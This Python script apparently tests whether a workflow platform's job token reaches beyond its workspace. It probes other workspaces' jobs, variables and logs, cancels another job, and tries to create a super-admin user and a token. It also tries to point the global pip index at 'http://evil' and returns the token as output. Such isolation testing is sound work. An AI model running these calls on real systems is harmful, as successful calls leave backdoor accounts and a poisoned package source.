"""What its own token opens beyond its workspace: other workspaces, the instance, other jobs."""
import json
import os
import urllib.error
import urllib.request

BASE = os.environ["BASE_INTERNAL_URL"] + "/api/"


def ask(method, path, body=None):
    request = urllib.request.Request(BASE + path, method=method, data=None if body is None else json.dumps(body).encode())
    request.add_header("authorization", "Bearer " + os.environ["WM_TOKEN"])
    request.add_header("content-type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as reply:
            return reply.status
    except urllib.error.HTTPError as error:
        return error.code


def main(workspace: str, job: str):
    other = f"w/{workspace}/"
    preview = {"language": "bash", "content": "true"}
    attempts = [("GET", other + path, None) for path in ("users/whoami", "jobs/list", "scripts/list", "variables/list", "users/list")]
    attempts += [("GET", other + f"jobs_u/{what}/{job}", None) for what in ("get", "get_logs", "completed/get_result")]
    attempts += [("POST", other + "jobs/run/preview", preview), ("POST", other + "jobs/run/preview_flow", {"value": {"modules": []}})]
    attempts += [("POST", other + f"jobs_u/queue/cancel/{job}", {"reason": "mine"}), ("POST", other + f"job_metrics/set_progress/{job}", {"percent": 5})]
    attempts += [("GET", path, None) for path in ("users/list_as_super_admin", "workspaces/list_as_superadmin", "settings/global/pip_index_url", "users/tokens/list")]
    attempts += [("POST", "users/tokens/create", {"label": "kept"}), ("POST", "users/create", {"email": "x@y.z", "password": "long enough", "super_admin": True})]
    attempts += [("POST", "settings/global/pip_index_url", {"value": "http://evil"}), ("POST", "workspaces/create", {"id": "mine", "name": "mine"})]
    own = ask("GET", f"w/{os.environ['WM_WORKSPACE']}/users/whoami")
    hit = [f"{method} {path}" for method, path, body in attempts if ask(method, path, body) < 400]
    print("VERDICT", "ESCAPED" if hit else "held", hit, "own workspace:", own, flush=True)
    return os.environ["WM_TOKEN"]
